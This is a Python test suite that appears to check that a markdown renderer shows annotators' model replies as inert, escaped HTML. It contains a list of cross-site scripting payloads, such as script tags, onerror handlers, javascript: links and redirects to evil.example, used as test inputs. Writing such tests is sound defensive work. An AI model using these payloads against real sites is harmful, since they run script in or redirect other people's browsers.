"""What a rater sees of a reply: nothing that runs or loads, and everything that was written."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotation import rendering

TAGS = {
    "p",
    "ul",
    "ol",
    "li",
    "blockquote",
    "th",
    "td",
    "h3",
    "h4",
    "h5",
    "h6",
    "pre",
    "code",
    "span",
    "div",
    "table",
    "thead",
    "tbody",
    "tr",
    "br",
    "hr",
    "em",
    "strong",
    "s",
}
ATTRIBUTES = {"dir", "start", "role", "aria-label", "tabindex", "class"}
CLASSES = {
    "table-scroll",
    "plain-reply",
    "bidi-mark",
    "code-language",
    "inert-image",
    "own-words",
    "inert-link",
    "inert-link-address",
    "align-right",
    "align-center",
}
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>over all</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://e.example "onmouseover=alert(1)")',
    '![a" onerror="alert(1)](x)',
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)//",
    "</pre></div></body><script>alert(1)</script>",
    '```"><script>alert(1)</script>\ncode\n```',
    "`<script>alert(1)</script>`",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<form action=//evil.example><input name=p><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<h1 id=main class=page-title>Study closed</h1>",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "\x00<script\x00>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]


class Seen(HTMLParser):
    """What a browser would make of a page part."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.pieces = [], [], []
        self.feed(html)
        self.close()
        self.text = "".join(self.pieces)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, *pair) for pair in attrs]

    def handle_data(self, data):
        self.pieces.append(data)

    def handle_comment(self, data):
        self.tags.append("comment")

    def handle_decl(self, decl):
        self.tags.append("declaration")


def seen(markdown):
    return Seen(rendering.render(markdown))


def assert_inert(page):
    assert set(page.tags) <= TAGS
    assert {name for _, name, _ in page.attributes} <= ATTRIBUTES
    assert {value for _, name, value in page.attributes if name == "class"} <= CLASSES


def letters(text):
    return [sign for sign in text if sign.isalnum()]


@pytest.mark.parametrize("vector", VECTORS)
def test_no_tag_or_attribute_outside_the_allow_list_comes_out(vector):
    assert_inert(seen(vector))


@pytest.mark.parametrize("vector", VECTORS)
def test_hostile_markup_inside_a_list_and_a_quote_stays_inert(vector):
    assert_inert(seen(f"> - {vector}\n\n1. {vector}"))


@pytest.mark.parametrize(
    "vector", [v for v in VECTORS if not v.startswith(("[", "!", "`", "|", "#"))]
)
def test_raw_html_is_shown_as_it_was_written(vector):
    assert seen(vector).text.strip() == vector.replace("\x00", "\ufffd").strip()


@given(st.text(alphabet=st.sampled_from("ab1<>&\"'[]()!*_`#|-~>\\ \n\t\u202e:/="), max_size=120))
@settings(max_examples=300, deadline=None)
def test_whatever_is_written_stays_inert_and_no_letter_is_lost(text):
    page = seen(text)

    assert_inert(page)
    for sign in "ab":
        assert page.text.count(sign) >= text.count(sign)


def test_the_same_reply_is_rendered_the_same_at_every_call():
    reply = "# A\n\n- b\n- [c](d)\n\n|e|\n|-|\n|f|"

    assert rendering.render(reply) == rendering.render(reply)
    assert isinstance(rendering.RENDERER_VERSION, int)


def test_paragraphs_emphasis_and_lists_look_as_markdown():
    html = rendering.render("a **b** *c* ~~d~~\n\n3. x\n4. y")

    assert '<p dir="auto">a <strong>b</strong> <em>c</em> <s>d</s></p>' in html
    assert '<ol start="3" dir="auto">' in html


def test_lines_of_a_reply_stay_lines():
    assert "one<br>\ntwo" in rendering.render("one\ntwo")


@pytest.mark.parametrize(("marks", "tag"), [("#", "h3"), ("##", "h3"), ("######", "h3")])
def test_a_heading_cannot_outrank_those_of_the_page(marks, tag):
    assert rendering.render(f"{marks} Title") == f'<{tag} dir="auto">Title</{tag}>\n'


def test_a_link_is_its_words_and_its_address_in_plain_text():
    page = seen('[the docs](https://a.example/?q=1&r=%20ü "A title")')

    assert page.text.strip() == "the docs (https://a.example/?q=1&r=%20ü A title)"
    assert ("span", "class", "inert-link") in page.attributes


def test_two_links_in_a_line_keep_their_own_addresses():
    assert seen("[a](x) and [b](y)").text.strip() == "a (x) and b (y)"


@pytest.mark.parametrize(
    "around", ["{}({})", "!{}({})", "**{}**", "`{}`", "- {}", "[{}](x.y)", "\\{}", "    {}"]
)
def test_the_mark_of_a_mask_is_whole_whatever_stands_around_it(around):
    markdown = around.replace("{}", "[removed]")

    html = rendering.render(markdown)

    assert html.count(">[removed]</span>") == markdown.count("[removed]")
    assert "inert-image" not in html


def test_an_image_is_its_description_marked_as_not_shown():
    page = seen("![a *red* cat](https://a.example/cat.png)")

    assert page.text.strip() == "[Image not shown: a red cat] (https://a.example/cat.png)"


def test_an_image_without_description_says_so():
    assert "[Image not shown: no description]" in seen("![](x.png)").text


def test_an_inlined_image_does_not_fill_the_page():
    assert len(seen(f"![x](data:image/png;base64,{'A' * 5000})").text) < 300


def test_a_link_definition_is_shown_instead_of_swallowed():
    assert seen("See [1].\n\n[1]: https://a.example").text.split() == [
        "See",
        "[1].",
        "[1]:",
        "https://a.example",
    ]


def test_a_bare_address_is_left_as_text():
    page = seen("Go to https://a.example now")

    assert page.tags == ["p"]


def test_code_keeps_its_spaces_and_its_language():
    html = rendering.render("```python\nif a:\n    b\t= <c>\n```")

    assert '<pre dir="auto"><code>if a:\n    b\t= &lt;c&gt;\n</code></pre>' in html
    assert '<span class="code-language" dir="auto">python</span>' in html


def test_indented_code_has_no_language():
    assert rendering.render("    a  b") == '<pre dir="auto"><code>a  b\n</code></pre>\n'


def test_a_table_scrolls_in_a_frame_of_its_own():
    html = rendering.render("|a|b|c|\n|-|-:|:-:|\n|1|2|3|")

    frame = {'class="table-scroll"', 'tabindex="0"', 'role="group"', 'aria-label="Table"'}
    opening = html[: html.index("<table>")]
    assert all(part in opening for part in frame)
    assert '<td class="align-right" dir="auto">2</td>' in html
    assert '<td class="align-center" dir="auto">3</td>' in html


@pytest.mark.parametrize(
    "control", "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
)
def test_a_direction_control_is_made_visible(control):
    html = rendering.render(f"a{control}b `c{control}d` [e](f{control}g)\n\n    h{control}i")

    assert control not in html
    assert html.count(f'<span class="bidi-mark">[U+{ord(control):04X}]</span>') == 4


def test_joiners_that_words_and_emoji_need_are_left_alone():
    assert "می\u200cخواهم 👩\u200d👧" in rendering.render("می\u200cخواهم 👩\u200d👧")


def test_every_block_takes_its_direction_from_its_own_words():
    page = seen("# א\n\nא\n\n> א\n\n- א\n\n|א|\n|-|\n|א|")

    directed = {tag for tag, name, value in page.attributes if (name, value) == ("dir", "auto")}
    assert directed == {"h3", "p", "blockquote", "ul", "li", "th", "td"}


@pytest.mark.parametrize(
    "control", ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\ud800"]
)
def test_a_control_sign_is_shown_as_a_replacement(control):
    assert rendering.render(f"a{control}b") == '<p dir="auto">a\ufffdb</p>\n'


def test_a_cell_too_many_makes_the_whole_reply_plain_text():
    reply = "|a|\n|-|\n|1|and this|"

    assert rendering.render(reply) == f'<pre class="plain-reply" dir="auto">{reply}</pre>'


@pytest.mark.parametrize(
    "hostile",
    [
        ">" * 20_000 + "deep",
        "> " * 20_000 + "deep",
        "- " * 20_000 + "deep",
        "".join("  " * level + "- x\n" for level in range(300)),
        "*a " * 5_000 + "a* " * 5_000,
        "a" * 1_000_000,
        "[" * 300_000 + "x",
    ],
    ids=["quotes", "spaced quotes", "lists", "indented lists", "emphasis", "one line", "brackets"],
)
def test_input_too_deep_or_too_long_is_shown_whole_as_plain_text(hostile):
    page = seen(hostile)

    assert page.tags == ["pre"]
    assert letters(page.text) == letters(hostile)


@pytest.mark.parametrize(
    "hostile",
    [
        "[" * 20_000 + "x",
        "![" * 9_000,
        "`" * 20_000 + "x",
        "*a_ " * 5_000,
        "|a" * 300 + "|\n",
        "<" * 20_000,
    ],
)
def test_unclosed_marks_in_great_number_stay_text(hostile):
    page = seen(hostile)

    assert_inert(page)
    assert len(letters(page.text)) >= len(letters(hostile))


def test_an_empty_reply_is_empty():
    assert rendering.render("") == ""


def test_a_heading_without_words_is_an_empty_heading():
    assert rendering.render("#") == '<h3 dir="auto"></h3>\n'


def test_headings_skip_no_level_whatever_the_text_skips():
    html = rendering.render("## a\n\n#### b\n\n##### c\n\n## d\n\n# e\n\n###### f")

    assert re.findall(r"<(h\d)", html) == ["h3", "h4", "h5", "h3", "h3", "h4"]


def test_a_page_may_say_at_which_level_headings_begin():
    assert rendering.render("# a", top=2) == '<h2 dir="auto">a</h2>\n'


def test_R135_only_what_turns_a_line_around_is_marked_in_a_name():
    assert rendering.one_way("a\u202eb عدل\u200c") == "a[U+202E]b عدل\u200c"
